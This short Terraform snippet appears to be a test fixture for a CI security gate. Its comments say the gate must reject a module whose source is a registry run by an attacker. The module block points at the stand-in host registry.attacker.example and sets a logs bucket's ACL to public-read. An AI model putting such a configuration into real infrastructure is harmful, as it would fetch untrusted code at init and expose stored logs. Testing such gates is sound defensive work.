# The module's resources live on a registry the attacker runs. Terraform installs from it at `terraform init`;
# the gate never contacts a host the pipeline did not allow, so the module is an error, not a silent pass.
module "logs" {
  source  = "registry.attacker.example/acme/bucket/aws"
  version = "1.0.0"
  acl     = "public-read"
}
